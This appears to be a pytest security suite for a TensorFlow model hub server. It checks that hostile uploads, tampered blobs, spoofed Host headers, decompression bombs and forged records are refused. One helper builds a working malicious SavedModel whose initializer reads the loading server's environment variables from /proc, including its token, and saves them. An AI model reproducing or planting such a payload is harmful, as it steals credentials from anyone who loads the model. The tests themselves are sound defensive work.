"""What a hostile uploader, reader or network client can do to `tfhub serve`: nothing.

Each test is an attack of issue 11 against a real server (a `tfhub serve` process, or the same
app in this process where the attack does not involve the server's process); side effects
are checked on disk.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile
from pathlib import Path

import pytest
import requests

from tests.helpers.hub import TOKEN, HubServer, InProcessHub, publish, tree
from tfhub import errors
from tfhub.server import client
from tfhub.testing import make_tarball

PUBLIC_URL = "https://hub.example.test"
UNPACKED_LIMIT = 3_000_000


@pytest.fixture(scope="module")
def hub(tmp_path_factory, models):
    store = tmp_path_factory.mktemp("trust") / "store"
    srv = HubServer(
        str(store),
        env={"TFHUB_PUBLIC_URL": PUBLIC_URL, "TFHUB_MAX_UNPACKED_BYTES": str(UNPACKED_LIMIT)},
    )
    try:
        assert publish(srv.url, "test/mul/1", make_tarball(models["mul"])).status_code == 201
        srv.store = store
        yield srv
    finally:
        srv.stop()


def _save_environ_thief(path: Path, loot: Path) -> Path:
    """A SavedModel whose resource initializer, run by any load, copies the environment of
    the loading process's parent (the server) to ``loot``."""
    import tensorflow as tf

    class Thief(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.string)

        def _initialize(self):
            ppid = tf.strings.split(tf.io.read_file("/proc/self/stat"), " ")[3]
            environ = tf.io.read_file(tf.strings.join(["/proc/", ppid, "/environ"]))
            return tf.io.write_file(str(loot), environ)

    root = tf.Module()
    root.thief = Thief()
    root.v = tf.Variable(2.0)
    root.f = tf.function(lambda x: x * root.v, input_signature=[tf.TensorSpec([], tf.float32)])
    tf.saved_model.save(root, str(path))
    loot.unlink(missing_ok=True)  # in case saving ran it here
    return path


def test_publishing_never_runs_the_upload(tmp_path):
    """Even with the op policy off, the validator parses and never loads: the initializer
    that stole the server's token (issue 11, item 1) never runs."""
    store = tmp_path / "store"
    loot = store / ".blobs" / "loot"
    model = _save_environ_thief(tmp_path / "thief", loot)
    srv = HubServer(str(store), env={"TFHUB_ALLOW_UNSAFE_OPS": "1"})
    try:
        resp = publish(srv.url, "evil/thief/1", make_tarball(model))
        assert resp.status_code in (201, 422), resp.text
        assert not loot.exists() and not (tmp_path / "loot").exists()
        for name, data in tree(store).items():
            assert TOKEN.encode() not in data, name
        if resp.status_code == 201:
            for f in resp.json()["blobs"]["files"]:
                served = requests.get(f"{srv.url}/api/blobs/{f['sha256']}", timeout=30)
                assert served.ok and TOKEN.encode() not in served.content
    finally:
        srv.stop()


def test_a_planted_unreferenced_blob_is_not_served(hub):
    data = b"planted by someone with write access to the storage, never published"
    sha = hashlib.sha256(data).hexdigest()
    (hub.store / ".blobs" / sha).write_bytes(data)
    resp = requests.get(f"{hub.url}/api/blobs/{sha}", timeout=30)
    assert resp.status_code == 404 and data not in resp.content


def _get_body(url: str) -> tuple[int, bytes]:
    """Status and body; a response cut before its Content-Length is (-1, what arrived)."""
    resp = requests.get(url, timeout=30, stream=True)
    got = bytearray()
    try:
        for chunk in resp.iter_content(65536):
            got += chunk
    except requests.exceptions.RequestException:
        return -1, bytes(got)
    return resp.status_code, bytes(got)


def test_blobs_altered_in_the_storage_are_never_served_intact(tmp_path, models):
    import numpy as np
    import tensorflow as tf

    big = tf.Module()
    big.v = tf.Variable(np.arange(3 << 20, dtype=np.float32))  # 12 MiB: several blocks
    big.f = tf.function(lambda x: x + big.v[0], input_signature=[tf.TensorSpec([], tf.float32)])
    tf.saved_model.save(big, str(tmp_path / "big"))
    store = tmp_path / "store"
    srv = InProcessHub(store)
    try:
        record = publish(srv.url, "test/big/1", make_tarball(tmp_path / "big")).json()
        files = {f["path"]: f for f in record["blobs"]["files"]}
        data = files["variables/variables.data-00000-of-00001"]
        blob = store / ".blobs" / data["sha256"]
        original = blob.read_bytes()
        assert len(original) > 2 * (4 << 20)
        altered = bytearray(original)
        altered[(4 << 20) + 10] ^= 0xFF  # in the second block: the first one streams out
        blob.write_bytes(bytes(altered))
        status, body = _get_body(f"{srv.url}/api/blobs/{data['sha256']}")
        assert status == -1 and len(body) < len(original)  # cut, never complete
        assert bytes(altered[(4 << 20) :]) not in body
        url = f"{srv.url}/api/blobs/{data['sha256']}"
        ranged = requests.get(url, headers={"Range": "bytes=4194310-4194400"}, timeout=30)
        assert ranged.status_code == 503 and "altered" in ranged.json()["error"]
        cut = {"Range": "bytes=4194300-4194400"}
        resp = requests.get(url, headers=cut, stream=True, timeout=30)
        with pytest.raises(requests.exceptions.ChunkedEncodingError):
            resp.content  # noqa: B018 - the good block's bytes, then the cut
        # The archive: altered bytes are refused, with a clean 503 for a small one.
        archive = store / record["archive"]["key"]
        tampered = bytearray(archive.read_bytes())
        tampered[-100] ^= 0xFF
        archive.write_bytes(bytes(tampered))
        status, body = _get_body(f"{srv.url}/test/big/1?tf-hub-format=compressed")
        assert status in (-1, 503) and body != bytes(tampered)
        small = store / ".blobs" / files["saved_model.pb"]["sha256"]
        small.write_bytes(small.read_bytes()[:-1] + b"\x00")
        resp = requests.get(f"{srv.url}/api/blobs/{files['saved_model.pb']['sha256']}", timeout=30)
        assert resp.status_code == 503 and "Traceback" not in resp.text
    finally:
        srv.stop()


def test_healthz_says_nothing_about_paths_or_configuration(hub):
    resp = requests.get(f"{hub.url}/healthz", timeout=30)
    assert resp.json() == {"status": "ok"}
    assert str(hub.store) not in resp.text and "store" not in resp.text


def test_security_headers_on_pages_api_and_files(hub):
    for path in ("/", "/test/mul/1", "/api/models", "/api/models/test/mul/9", "/nobody/x/1"):
        headers = requests.get(hub.url + path, timeout=30).headers
        csp = headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, path
        assert "default-src 'none'" in csp
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["Referrer-Policy"] == "no-referrer"
    page = requests.get(f"{hub.url}/test/mul/1", timeout=30).text
    assert "onclick" not in page  # the copy button's script is the hashed <script>


def test_snippets_use_the_public_url_not_the_host_header(hub):
    page = requests.get(
        f"{hub.url}/test/mul/1", headers={"Host": "evil.example:666"}, timeout=30
    ).text
    assert f"hub.KerasLayer(&quot;{PUBLIC_URL}/test/mul/1&quot;)" in page
    assert "evil.example" not in page


@pytest.mark.parametrize(
    "name",
    ["test/mul/1\u0663", "test/m\u0663/1", "t\u0663st/m/1", "test/caf\u00e9/1", "test/m/1%0A",
     "test/m/\uff11"],
)  # fmt: skip
def test_names_and_versions_are_ascii_only(hub, models, tmp_path, name):
    before = tree(hub.store)
    resp = publish(hub.url, name, make_tarball(models["mul"]))
    assert resp.status_code == 400, resp.text
    assert tree(hub.store) == before
    assert requests.get(f"{hub.url}/api/models/{name}", timeout=30).status_code in (400, 404)


@pytest.mark.parametrize(
    "name", ["test/" + "m" * 300 + "/1", "p" * 300 + "/m/1", "test/" + "a/" * 200 + "m/1",
             "test/m/" + "1" * 400],
)  # fmt: skip
def test_over_long_names_are_4xx_not_500(hub, models, name):
    assert publish(hub.url, name, make_tarball(models["mul"])).status_code == 400
    for path in (f"/api/models/{name}", f"/{name}", f"/{name}?tf-hub-format=compressed"):
        status = requests.get(hub.url + path, timeout=30).status_code
        assert 400 <= status < 500, (path, status)


def test_the_unpacked_size_of_uploads_is_capped(hub, models):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, size in (("saved_model.pb", 10), ("variables/zeros", UNPACKED_LIMIT * 4)):
            info = tarfile.TarInfo(name)
            info.size = size
            tar.addfile(info, io.BytesIO(bytes(size)))
    body = buf.getvalue()
    assert len(body) < UNPACKED_LIMIT // 10  # well within the upload limit
    before = tree(hub.store)
    resp = publish(hub.url, "test/bomb/1", body)
    assert resp.status_code == 413 and "TFHUB_MAX_UNPACKED_BYTES" in resp.json()["error"]
    assert tree(hub.store) == before


def test_records_that_do_not_match_their_key_are_ignored(hub):
    record = json.loads((hub.store / "test/mul/1/meta.json").read_bytes())
    forged = hub.store / "other" / "forged" / "1" / "meta.json"
    forged.parent.mkdir(parents=True)
    forged.write_text(json.dumps({**record, "version": 7}))  # claims to be test/mul/7
    listed = requests.get(f"{hub.url}/api/models", timeout=30).json()["items"]
    assert listed and all(m["publisher"] != "other" for m in listed)
    mul = requests.get(f"{hub.url}/api/models/test/mul", timeout=30).json()
    assert mul["versions"] == [1]
    assert requests.get(f"{hub.url}/api/models/other/forged/1", timeout=30).status_code == 404


def test_storage_failures_are_clean_json_503s(s3_endpoint):
    srv = HubServer("s3://no-such-bucket/hub")
    try:
        resp = requests.get(f"{srv.url}/api/models", timeout=60)
        assert resp.status_code == 503
        assert "NoSuchBucket" in resp.json()["error"] and "Traceback" not in resp.text
        page = requests.get(f"{srv.url}/test/mul/1", timeout=60)
        assert page.status_code == 503 and page.json()["error"]
    finally:
        srv.stop()


def test_a_refused_publish_is_a_publish_error_with_the_servers_message(hub, models, monkeypatch):
    with pytest.raises(errors.PublishError) as caught:
        client.publish_to_server(models["mul"], "test/mul/1", server=hub.url, token=TOKEN)
    assert caught.value.status == 409 and "versions are immutable" in str(caught.value)
    assert not isinstance(caught.value, errors.DownloadError)
    monkeypatch.setenv("TFHUB_TOKEN", "not-the-token")
    with pytest.raises(errors.PublishError, match="TFHUB_TOKEN") as caught:
        client.publish_to_server(models["mul"], "test/mul/2", server=hub.url)
    assert caught.value.status == 401 and "Unknown token" in str(caught.value)
    assert os.environ["TFHUB_TOKEN"] not in str(caught.value)
